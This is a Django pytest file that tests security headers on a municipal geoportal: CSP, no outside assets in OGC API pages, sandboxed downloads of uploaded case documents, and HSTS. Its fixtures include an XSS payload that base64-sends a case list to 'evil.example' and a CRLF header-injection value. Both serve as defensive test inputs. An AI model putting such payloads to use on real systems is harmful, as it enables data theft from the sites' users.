"""Security headers: a strict Content-Security-Policy on every page (django-csp), OGC API HTML without
any asset from outside, uploaded files never served as pages of our origin (attachment unless PDF/PNG/
JPEG; always nosniff and a sandbox CSP), HSTS and the proxy's scheme only with an https public URL."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import uuid
from datetime import date
from html.parser import HTMLParser
from pathlib import Path

import pytest
from django.conf import settings

from layers.models import Parcel
from services.cases.actions import case_document_add, case_register
from services.cases.models import Case
from services.forms.models import ServiceDefinition, Submission
from services.offices.actions import staff_add
from services.offices.models import Office, OfficeUnit

pytestmark = pytest.mark.django_db
ROOT = Path(__file__).resolve().parents[2]

XHTML = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n<html xmlns="http://www.w3.org/1999/xhtml"><head><title>t</title></head>'
    b'<body><script>fetch("/urzad/sprawy/").then(r => r.text()).then(t => new Image().src = "//evil.example/?" + btoa(t))'
    b"</script></body></html>"
)
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 32


def policy(response) -> dict[str, list[str]]:
    header = response.get("Content-Security-Policy", "")
    out = {}
    for part in header.split(";"):
        words = part.split()
        if words:
            out[words[0]] = words[1:]
    return out


def assert_strict(response) -> None:
    p = policy(response)
    assert p, f"no CSP on {response.request['PATH_INFO']}"
    assert p["default-src"] == ["'self'"] and p["script-src"] == ["'self'"] and p["style-src"] == ["'self'"]
    assert p["object-src"] == ["'none'"] and p["frame-ancestors"] == ["'none'"]
    assert p["base-uri"] == ["'self'"] and p["form-action"] == ["'self'"]
    assert {"'self'", "data:", "blob:"} <= set(p["img-src"])
    header = response["Content-Security-Policy"]
    assert "unsafe-inline" not in header and "unsafe-eval" not in header and "*" not in header


# ------------------------------------------------------------------ CSP on every kind of page
@pytest.fixture
def superuser(db):
    from gisportal.core.models import User

    return User.objects.create_superuser(
        username="root.csp", email="root@example.pl", password="x-Secret-2026!"
    )


@pytest.mark.parametrize(
    "path",
    [
        "/",
        "/uslugi/wypis-wyrys-mpzp/",
        "/konto/logowanie/",
        "/admin/login/",
        "/status/",
        "/szukaj/",
        "/nie-ma-takiej-strony/",
        "/api/services/",
    ],
)
def test_csp_on_portal_pages(client, demo_data, path):
    r = client.get(path)
    assert r.status_code in (200, 404)
    assert_strict(r)


def test_csp_on_admin_pages_too(client, superuser):
    """The admin needs no exception: Django 5.2's admin has no inline scripts (e2e checks it in Chromium)."""
    client.force_login(superuser)
    for path in (
        "/admin/",
        "/admin/core/user/",
        f"/admin/core/user/{superuser.pk}/change/",
        "/admin/offices/office/",
    ):
        r = client.get(path)
        assert r.status_code == 200
        assert_strict(r)


def test_other_security_headers(client):
    r = client.get("/konto/logowanie/")
    assert r["Referrer-Policy"] == "same-origin" and r["X-Content-Type-Options"] == "nosniff"
    assert r["X-Frame-Options"] == "DENY"
    assert "camera=()" in r["Permissions-Policy"] and "geolocation=()" in r["Permissions-Policy"]
    assert "Strict-Transport-Security" not in r  # http public URL: no HSTS
    assert "Strict-Transport-Security" not in client.get("/konto/logowanie/", secure=True)
    assert "Strict-Transport-Security" not in client.get("/konto/logowanie/", HTTP_X_FORWARDED_PROTO="https")


# ------------------------------------------------------------------ OGC API HTML: our origin only
OGCAPI_PAGES = [
    "/ogcapi?f=html",
    "/ogcapi/collections?f=html",
    "/ogcapi/collections/dzialki?f=html",
    "/ogcapi/collections/dzialki/items?f=html&limit=5",
    "/ogcapi/collections/adresy/items?f=html&limit=5",
    "/ogcapi/collections/dzialki/queryables?f=html",
    "/ogcapi/conformance?f=html",
    "/ogcapi/openapi?f=html",
    "/ogcapi/openapi?f=html&ui=redoc",
    "/ogcapi/collections/nie-ma?f=html",
    "/ogcapi/collections/dzialki/items/nie-ma?f=html",
]


class Assets(HTMLParser):
    """URLs the browser would load by itself: scripts, style sheets, images, frames, objects."""

    def __init__(self):
        super().__init__()
        self.urls: list[tuple[str, str]] = []

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "script" and a.get("src"):
            self.urls.append((tag, a["src"]))
        elif tag == "link" and a.get("rel") in (
            "stylesheet",
            "icon",
            "shortcut icon",
            "preload",
            "modulepreload",
        ):
            self.urls.append((tag, a.get("href", "")))
        elif tag in ("img", "iframe", "embed", "source", "audio", "video") and a.get("src"):
            self.urls.append((tag, a["src"]))
        elif tag == "object" and a.get("data"):
            self.urls.append((tag, a["data"]))


def _ours(url: str) -> bool:
    return (url.startswith("/") and not url.startswith("//")) or url.startswith(
        settings.GISPORTAL_PUBLIC_URL + "/"
    )


@pytest.fixture(scope="module")
def parcel_id(demo_data, django_db_blocker):
    with django_db_blocker.unblock():
        return Parcel.objects.current().order_by("parcel_id").first().parcel_id


def test_ogcapi_html_loads_nothing_from_outside(client, parcel_id):
    pages = [*OGCAPI_PAGES, f"/ogcapi/collections/dzialki/items/{parcel_id}?f=html"]
    for path in pages:
        r = client.get(path)
        assert r.status_code in (200, 404) and r["Content-Type"].startswith("text/html"), path
        html = r.content.decode()
        assert_strict(r)
        parser = Assets()
        parser.feed(html)
        assert parser.urls, path  # at least our style sheets
        outside = [u for u in parser.urls if not _ours(u[1])]
        assert outside == [], (path, outside)
        for cdn in ("unpkg.com", "jsdelivr", "cdnjs", "googleapis", "bootstrapcdn"):
            assert cdn not in html, (path, cdn)
    # the assets are ours and served (copied from node_modules at set-up)
    for asset in (
        "/static/ogcapi/vendor/leaflet/leaflet.js",
        "/static/ogcapi/vendor/leaflet/leaflet.css",
        "/static/ogcapi/vendor/swagger-ui/swagger-ui-bundle.js",
        "/static/ogcapi/map.js",
        "/static/ogcapi/swagger.js",
    ):
        r = client.get(asset)
        assert r.status_code == 200, asset
        b"".join(r.streaming_content)


def test_ogcapi_pages_follow_the_public_url(client, demo_data, settings):
    """The map's WMS and the links are on the current public origin (pygeoapi caches the config its
    templates see: a stale one would put the WMS on another origin, which the CSP refuses)."""
    first = client.get("/ogcapi/collections/mpzp?f=html").content.decode()
    assert f'data-wms="{settings.GISPORTAL_PUBLIC_URL}/ows"' in first
    settings.GISPORTAL_PUBLIC_URL = "http://portal.example:8123"
    again = client.get("/ogcapi/collections/mpzp?f=html").content.decode()
    assert (
        'data-wms="http://portal.example:8123/ows"' in again
        and 'href="http://portal.example:8123/ogcapi?f=html"' in again
    )


def test_pygeoapi_templates_are_ours():
    """pygeoapi looks into our template folder first: every HTML template it may render there exists in it."""
    from ogc.ogcapi.config import TEMPLATES_DIR, pygeoapi_config

    assert Path(pygeoapi_config.__globals__["TEMPLATES_DIR"]) == TEMPLATES_DIR
    for name in (
        "_base.html",
        "landing_page.html",
        "conformance.html",
        "exception.html",
        "collections/index.html",
        "collections/collection.html",
        "collections/queryables.html",
        "collections/items/index.html",
        "collections/items/item.html",
        "collections/schema.html",
        "openapi/swagger.html",
        "openapi/redoc.html",
    ):
        text = (TEMPLATES_DIR / name).read_text()
        assert "|safe" not in text.replace(" ", "") and "http://" not in text and "https://" not in text, name


# ------------------------------------------------------------------ uploaded files
@pytest.fixture
def gmina():
    return Office.objects.get(code="um-piaseczno")


@pytest.fixture
def clerk(make_user, gmina):
    user = make_user("clerk.csp", "clerk")
    staff_add(user, gmina, OfficeUnit.objects.get(office=gmina, code="UiA"))
    return user


@pytest.fixture
def case(gmina, clerk) -> Case:
    unit = OfficeUnit.objects.get(office=gmina, code="UiA")
    c, _access = case_register(
        office=gmina,
        unit=unit,
        jrwa="6727",
        subject="Wniosek",
        channel="paper",
        applicant_name="Jan Papierowy",
        received_on=date(2026, 12, 10),
        deadline_kind="one_month",
        applicant_email="jan@example.pl",
    )
    return c


def _get(client, case, doc):
    r = client.get(f"/urzad/sprawy/{case.pk}/dokumenty/{doc.id}")
    body = b"".join(r.streaming_content)
    return r, body


@pytest.mark.parametrize(
    "name,content_type,content",
    [
        ("pismo.xhtml", "application/xhtml+xml", XHTML),
        ("pismo.xml", "application/xml", XHTML),
        ("pismo.html", "text/html", XHTML),
        ("pismo.svg", "image/svg+xml", XHTML),
        ("pismo.txt", "text/plain; charset=utf-8", b"<script>alert(1)</script>"),
        ("dziwny", "text/html\r\nX-Injected: 1", XHTML),
    ],
)
def test_case_document_that_is_not_pdf_or_image_is_a_sandboxed_download(
    client, clerk, case, name, content_type, content, settings
):
    settings.SECURE_CONTENT_TYPE_NOSNIFF = False  # the file's own nosniff, not only the site-wide one
    doc = case_document_add(
        case, name=name, content_type=content_type, content=content, direction="in", actor=clerk
    )
    client.force_login(clerk)
    r, body = _get(client, case, doc)
    assert r.status_code == 200 and body == content
    assert r["Content-Disposition"].startswith("attachment;") and name in r["Content-Disposition"]
    assert r["Content-Security-Policy"] == "sandbox" and r["X-Content-Type-Options"] == "nosniff"
    assert "X-Injected" not in r and "\n" not in r["Content-Type"]


@pytest.mark.parametrize(
    "name,content_type,content",
    [
        ("skan.pdf", "application/pdf", PDF),
        ("skan.png", "image/png", PNG),
        ("skan.jpg", "image/jpeg", b"\xff\xd8\xff\xe0"),
    ],
)
def test_case_document_pdf_or_image_is_inline_but_sandboxed(
    client, clerk, case, name, content_type, content, settings
):
    settings.SECURE_CONTENT_TYPE_NOSNIFF = False
    doc = case_document_add(
        case, name=name, content_type=content_type, content=content, direction="in", actor=clerk
    )
    client.force_login(clerk)
    r, body = _get(client, case, doc)
    assert r.status_code == 200 and r["Content-Type"] == content_type
    assert r["Content-Disposition"].startswith("inline;")
    assert r["Content-Security-Policy"] == "sandbox" and r["X-Content-Type-Options"] == "nosniff"


def test_xhtml_scan_uploaded_at_paper_intake_downloads(client, clerk):
    """The whole path: a clerk registers paper mail with an XHTML 'scan'; opening it downloads it."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    client.force_login(clerk)
    r = client.post(
        "/urzad/sprawy/nowa/",
        {
            "received_on": "2026-11-20",
            "applicant_name": "Jan",
            "subject": "Pismo",
            "unit": OfficeUnit.objects.get(code="UiA").pk,
            "jrwa": "6727",
            "deadline_kind": "one_month",
            "parcels": "",
            "scans": [SimpleUploadedFile("skan.xml", XHTML, content_type="application/xhtml+xml")],
        },
    )
    assert r.status_code == 302, r.content.decode()[-1500:]
    case = Case.objects.get(subject="Pismo")
    doc = case.documents.get()
    page = client.get(f"/urzad/sprawy/{case.pk}/")
    assert f"/urzad/sprawy/{case.pk}/dokumenty/{doc.id}" in page.content.decode()
    r, body = _get(client, case, doc)
    assert body == XHTML and r["Content-Disposition"].startswith("attachment;")
    assert r["Content-Security-Policy"] == "sandbox" and r["X-Content-Type-Options"] == "nosniff"


def test_another_office_cannot_open_the_document(client, make_user, case, clerk):
    doc = case_document_add(
        case, name="a.pdf", content_type="application/pdf", content=PDF, direction="in", actor=clerk
    )
    other = make_user("clerk.other", "clerk")
    county = Office.objects.get(code="sp-piaseczno")
    staff_add(other, county, OfficeUnit.objects.get(office=county, code="GK"))
    client.force_login(other)
    assert client.get(f"/urzad/sprawy/{case.pk}/dokumenty/{doc.id}").status_code == 404
    client.logout()
    assert client.get(f"/urzad/sprawy/{case.pk}/dokumenty/{doc.id}").status_code == 302  # to the login page


# ------------------------------------------------------------------ receipts (upp.xml / upp.pdf)
def test_receipt_files_are_hardened(client, make_user, demo_data, settings):
    settings.SECURE_CONTENT_TYPE_NOSNIFF = False
    town = (
        Parcel.objects.current().filter(precinct__unit__unit_id="141804_4").order_by("parcel_id")[3].parcel_id
    )
    user = make_user("jan.csp", "citizen", first_name="Jan", last_name="Kowalski")
    client.force_login(user)
    service = ServiceDefinition.objects.get(code="wypis-wyrys-mpzp", active=True)
    r = client.post(
        "/uslugi/wypis-wyrys-mpzp/",
        {
            "version": service.version,
            "idempotency_key": str(uuid.uuid4()),
            "action": "submit",
            "applicant_name": "Jan Kowalski",
            "email": "jan@example.pl",
            "pesel": "44051401359",
            "postal_code": "05-500",
            "locality": "Piaseczno",
            "nip": "123-456-32-18",
            "parcels": town,
            "product": "wypis_wyrys",
            "copies": "1",
        },
    )
    assert r.status_code == 302, r.content.decode()[-1500:]
    sub = Submission.objects.get(user=user)
    xml = client.get(f"/wnioski/{sub.id}/upp.xml")
    assert (
        xml["Content-Disposition"].startswith("attachment;") and xml["Content-Security-Policy"] == "sandbox"
    )
    assert xml["X-Content-Type-Options"] == "nosniff"
    pdf = client.get(f"/wnioski/{sub.id}/upp.pdf")
    assert pdf["Content-Disposition"].startswith("inline;") and pdf["Content-Security-Policy"] == "sandbox"
    assert pdf["X-Content-Type-Options"] == "nosniff" and pdf.content.startswith(b"%PDF-")


# ------------------------------------------------------------------ settings from the environment
PROBE = """
import json, django
django.setup()
from django.conf import settings
from django.test import Client
c = Client()
out = {"hsts": settings.SECURE_HSTS_SECONDS, "proxy": settings.SECURE_PROXY_SSL_HEADER,
       "img": settings.CONTENT_SECURITY_POLICY["DIRECTIVES"]["img-src"], "cookie": settings.SESSION_COOKIE_SECURE}
for name, kw in {"secure": {"secure": True}, "forwarded": {"HTTP_X_FORWARDED_PROTO": "https"}, "plain": {}}.items():
    r = c.get("/static/web/site.css", **kw)
    out[name] = [r.status_code, r.get("Strict-Transport-Security")]
print(json.dumps(out))
"""


def _probe(**env) -> dict:
    full = {**os.environ, "DJANGO_SETTINGS_MODULE": "gisportal.settings", **env}
    r = subprocess.run(
        [sys.executable, "-c", PROBE], capture_output=True, text=True, env=full, cwd=ROOT, timeout=120
    )
    assert r.returncode == 0, r.stderr[-3000:]
    return json.loads(r.stdout.strip().splitlines()[-1])


def test_hsts_and_proxy_scheme_only_with_an_https_public_url():
    https = _probe(
        GISPORTAL_PUBLIC_URL="https://geoportal.piaseczno.example",
        GISPORTAL_ORTHOPHOTO_WMS="https://mapy.geoportal.gov.pl/wss/service/PZGIK/ORTO/WMS/StandardResolution?x=1",
    )
    assert (
        https["hsts"] == 365 * 24 * 3600
        and https["proxy"] == ["HTTP_X_FORWARDED_PROTO", "https"]
        and https["cookie"]
    )
    assert https["secure"] == [200, "max-age=31536000"] and https["forwarded"] == [200, "max-age=31536000"]
    assert https["plain"] == [200, None]
    assert https["img"] == [
        "'self'",
        "data:",
        "blob:",
        "https://mapy.geoportal.gov.pl",
    ]  # the orthophoto's origin only
    http = _probe(GISPORTAL_PUBLIC_URL="http://127.0.0.1:8000", GISPORTAL_ORTHOPHOTO_WMS="")
    assert http["hsts"] == 0 and http["proxy"] is None and not http["cookie"]
    assert http["secure"] == [200, None] and http["forwarded"] == [200, None]  # X-Forwarded-Proto not trusted
    assert http["img"] == ["'self'", "data:", "blob:"]
